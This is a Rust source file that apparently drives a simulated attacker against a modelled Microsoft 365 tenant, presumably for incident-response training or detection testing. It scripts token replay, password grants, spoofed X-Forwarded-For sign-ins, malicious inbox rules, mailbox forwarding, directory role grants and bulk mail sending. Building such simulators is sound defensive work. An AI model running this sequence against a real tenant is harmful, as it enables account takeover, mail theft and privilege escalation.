//! Carries out what is due, over HTTP.
//!
//! The world is locked only to read the attacker's own notes and to write them back; everything else goes through
//! the listeners, where faults and rights meet it like anybody's request.

use jiff::{SignedDuration, Timestamp};
use serde_json::{Value, json};

use super::{Act, Attempt, CLIENT, Deed, Resource, Way};
use crate::sessions::{Refresh, Sessions};
use crate::world::{Shared, World};

/// What his client asks for.
const SCOPES: &[&str] = &[
    "Directory.AccessAsUser.All",
    "Exchange.Manage",
    "Mail.ReadWrite",
    "Mail.Send",
    "MailboxSettings.ReadWrite",
    "RoleAssignmentSchedule.ReadWrite.Directory",
    "RoleManagement.ReadWrite.Directory",
    "User.ReadWrite.All",
];

/// Where he comes from, as the sign-in log shows it.
const ADDRESS: &str = "203.0.113.77";

/// What tells the sign-in log where he comes from.
pub fn headers() -> reqwest::header::HeaderMap {
    let name = reqwest::header::HeaderName::from_static("x-forwarded-for");
    reqwest::header::HeaderMap::from_iter([(name, reqwest::header::HeaderValue::from_static(ADDRESS))])
}

/// The delegated permissions of his tokens.
pub fn scopes() -> Vec<String> {
    SCOPES.iter().map(|scope| (*scope).to_owned()).collect()
}

/// Does everything that is due until this moment.
pub async fn act(shared: &Shared, until: Timestamp) {
    let due = {
        let mut world = shared.lock();
        plant(&mut world);
        world.attacker.take_due(until)
    };
    for act in due {
        let (status, outcome) = Hand::new(shared).perform(&act).await;
        let mut world = shared.lock();
        let at = world.now.max(until);
        world.attacker.attempts.push(Attempt { at, deed: act.deed, account: act.account, status, outcome });
    }
}

/// Makes the refresh tokens he holds known to the sign-in service, unless they were ended since the start. Until he uses
/// them nobody can tell the difference.
pub fn plant(world: &mut World) {
    for holding in world.attacker.holds.clone() {
        let Way::RefreshToken { client_id, token, issued } = holding.way else { continue };
        let refresh = Refresh::new(&holding.account, &client_id, &scopes(), issued);
        let ended = world.tenant.sessions.has_ended(&as_old_as_the_start(world, &token, &refresh));
        if world.tenant.sessions.refresh(&token).is_none() && !ended {
            world.tenant.sessions.issue(token, refresh);
        }
    }
}

/// The token with the earliest place in the order of events at which the start of the run still accepts it.
fn as_old_as_the_start(world: &World, token: &str, refresh: &Refresh) -> Refresh {
    let mut counter = Sessions::default();
    let mut aged = refresh.clone();
    while world.initial.sessions.has_ended(&aged) {
        counter.issue(token.to_owned(), refresh.clone());
        aged = counter.refresh(token).cloned().unwrap_or(aged);
    }
    aged
}

type Outcome = (Option<u16>, String);

struct Hand<'a> {
    shared: &'a Shared,
    client: reqwest::Client,
    tenant: String,
}

impl<'a> Hand<'a> {
    fn new(shared: &'a Shared) -> Self {
        let tenant = shared.lock().tenant.id.clone();
        let client = shared.http.clone();
        Self { shared, client, tenant }
    }

    async fn perform(&self, act: &Act) -> Outcome {
        match act.deed {
            Deed::SignIn => self.sign_in(&act.account).await,
            Deed::Refresh => self.refresh(&act.account, Resource::Graph).await,
            Deed::CreateRule => self.create_rule(act).await,
            Deed::SetForwarding => self.set_forwarding(act).await,
            Deed::ReadMail => self.graph(act, "GET", "/mailboxSettings", &Value::Null).await,
            Deed::GrantRole => self.grant_role(act).await,
            Deed::SendMail => self.send_mail(act).await,
        }
    }

    async fn sign_in(&self, account: &str) -> Outcome {
        self.with_password(account, Resource::Graph).await
    }

    /// Makes the rule unless one of that name is there and on.
    async fn create_rule(&self, act: &Act) -> Outcome {
        let path = "/mailFolders/inbox/messageRules";
        let Some(token) = self.token(act, Resource::Graph).await else { return nothing() };
        let base = format!("{}/v1.0/users/{}", self.shared.bases.graph, act.account);
        let (_, rules) = self.call("GET", &format!("{base}{path}"), &token, &Value::Null).await;
        let is_there = |rule: &Value| rule["displayName"] == act.body["displayName"] && rule["isEnabled"] == Value::Bool(true);
        if rules["value"].as_array().is_some_and(|rules| rules.iter().any(is_there)) {
            return (Some(200), "the rule is still there".to_owned());
        }
        let (status, answer) = self.call("POST", &format!("{base}{path}"), &token, &act.body).await;
        told(status, &answer)
    }

    async fn set_forwarding(&self, act: &Act) -> Outcome {
        let Some(token) = self.token(act, Resource::Exchange).await else { return nothing() };
        let mut parameters = act.body.clone();
        parameters["Identity"] = act.account.clone().into();
        let body = json!({"CmdletInput": {"CmdletName": "Set-Mailbox", "Parameters": parameters}});
        let url = format!("{}/adminapi/beta/{}/InvokeCommand", self.shared.bases.exchange, self.tenant);
        let anchor = format!("UPN:{}", self.upn(&act.account));
        let request = self.client.post(&url).bearer_auth(&token).header("X-AnchorMailbox", anchor).json(&body);
        let (status, answer) = self.send(request).await;
        told(status, &answer)
    }

    async fn grant_role(&self, act: &Act) -> Outcome {
        let Some(token) = self.token(act, Resource::Graph).await else { return nothing() };
        let url = format!("{}/v1.0/roleManagement/directory/roleAssignments", self.shared.bases.graph);
        let mut body = act.body.clone();
        if body["principalId"].is_null() {
            body["principalId"] = act.account.clone().into();
        }
        let (status, answer) = self.call("POST", &url, &token, &body).await;
        told(status, &answer)
    }

    async fn send_mail(&self, act: &Act) -> Outcome {
        let mut last = nothing();
        for _ in 0..act.count {
            last = self.graph(act, "POST", "/sendMail", &act.body).await;
        }
        last
    }

    async fn graph(&self, act: &Act, method: &str, tail: &str, body: &Value) -> Outcome {
        let Some(token) = self.token(act, Resource::Graph).await else { return nothing() };
        let url = format!("{}/v1.0/users/{}{tail}", self.shared.bases.graph, act.account);
        let (status, answer) = self.call(method, &url, &token, body).await;
        told(status, &answer)
    }

    /// A token for the service: one he holds, or one he can still get.
    async fn token(&self, act: &Act, resource: Resource) -> Option<String> {
        let wants = |way: &str| act.with.as_deref().is_none_or(|with| with == way || with.starts_with(&format!("{way}:")));
        if wants("access-token")
            && let Some(token) = self.held(&act.account, resource)
        {
            return Some(token);
        }
        let cached = self.cached(&act.account, resource);
        if cached.is_some() && (wants("refresh-token") || wants("password")) {
            return cached;
        }
        if wants("refresh-token") {
            self.refresh(&act.account, resource).await;
        }
        if wants("password") && self.cached(&act.account, resource).is_none() {
            self.with_password(&act.account, resource).await;
        }
        self.cached(&act.account, resource).filter(|_| wants("refresh-token") || wants("password"))
    }

    fn held(&self, account: &str, wanted: Resource) -> Option<String> {
        let world = self.shared.lock();
        world.attacker.holds.iter().find_map(|holding| match &holding.way {
            Way::AccessToken { resource, token, ends }
                if *resource == wanted && holding.account == account && *ends > world.now =>
            {
                Some(token.clone())
            }
            _ => None,
        })
    }

    fn cached(&self, account: &str, resource: Resource) -> Option<String> {
        let world = self.shared.lock();
        let (token, ends) = world.attacker.tokens.get(&(account.to_owned(), resource))?;
        (*ends > world.now).then(|| token.clone())
    }

    async fn with_password(&self, account: &str, resource: Resource) -> Outcome {
        let (password, upn) = {
            let world = self.shared.lock();
            let password = world.attacker.holds.iter().find_map(|holding| match &holding.way {
                Way::Password(password) if holding.account == account => Some(password.clone()),
                _ => None,
            });
            let upn =
                world.tenant.directory.users.get(account).and_then(|user| user["userPrincipalName"].as_str()).map(str::to_owned);
            (password, upn)
        };
        let (Some(password), Some(upn)) = (password, upn) else { return nothing() };
        let form = [("grant_type", "password"), ("client_id", CLIENT), ("username", &upn), ("password", &password)];
        self.grant(account, resource, &form).await
    }

    async fn refresh(&self, account: &str, resource: Resource) -> Outcome {
        let held = {
            let world = self.shared.lock();
            let newest = world.attacker.refresh.get(account).map(|token| (CLIENT.to_owned(), token.clone()));
            newest.or_else(|| {
                world.attacker.holds.iter().find_map(|holding| match &holding.way {
                    Way::RefreshToken { client_id, token, .. } if holding.account == account => {
                        Some((client_id.clone(), token.clone()))
                    }
                    _ => None,
                })
            })
        };
        let Some((client_id, token)) = held else { return nothing() };
        let form = [("grant_type", "refresh_token"), ("client_id", client_id.as_str()), ("refresh_token", token.as_str())];
        self.grant(account, resource, &form).await
    }

    async fn grant(&self, account: &str, resource: Resource, form: &[(&str, &str)]) -> Outcome {
        let scope = match resource {
            Resource::Graph => "https://graph.microsoft.com/.default offline_access",
            Resource::Exchange => "https://outlook.office365.com/.default offline_access",
        };
        let url = format!("{}/{}/oauth2/v2.0/token", self.shared.bases.login, self.tenant);
        let mut form = form.to_vec();
        form.push(("scope", scope));
        let (status, answer) = self.send(self.client.post(url).form(&form)).await;
        if let Some(token) = answer["access_token"].as_str() {
            let mut world = self.shared.lock();
            let ends = SignedDuration::from_secs(answer["expires_in"].as_i64().unwrap_or(3600));
            let ends = world.now.saturating_add(ends).unwrap_or(world.now);
            world.attacker.tokens.insert((account.to_owned(), resource), (token.to_owned(), ends));
            if let Some(refresh) = answer["refresh_token"].as_str() {
                world.attacker.refresh.insert(account.to_owned(), refresh.to_owned());
            }
        }
        told(status, &answer)
    }

    /// The name that an account signs in with; its id where it has none.
    fn upn(&self, account: &str) -> String {
        let world = self.shared.lock();
        let name = world.tenant.directory.users.get(account).and_then(|user| user["userPrincipalName"].as_str());
        name.unwrap_or(account).to_owned()
    }

    async fn call(&self, method: &str, url: &str, token: &str, body: &Value) -> (Option<u16>, Value) {
        let method = method.parse().unwrap_or_default();
        let mut request = self.client.request(method, url).bearer_auth(token);
        if !body.is_null() {
            request = request.json(body);
        }
        self.send(request).await
    }

    #[expect(clippy::disallowed_methods, reason = "the attacker is not our client")]
    async fn send(&self, request: reqwest::RequestBuilder) -> (Option<u16>, Value) {
        let Ok(response) = request.send().await else { return (None, Value::Null) };
        let status = response.status().as_u16();
        let bytes = response.bytes().await.unwrap_or_default();
        (Some(status), serde_json::from_slice(&bytes).unwrap_or_default())
    }
}

fn nothing() -> Outcome {
    (None, "nothing left to try with".to_owned())
}

/// The outcome in words; never a token.
fn told(status: Option<u16>, answer: &Value) -> Outcome {
    let code = answer["error"]["code"].as_str().or_else(|| answer["error"].as_str());
    let codes =
        answer["error_codes"].as_array().and_then(|codes| codes.first()).map(|code| format!(" {code}")).unwrap_or_default();
    let text = match (status, code) {
        (None, _) => "no answer".to_owned(),
        (Some(status), Some(code)) => format!("{status} {code}{codes}"),
        (Some(status), None) => status.to_string(),
    };
    (status, text)
}
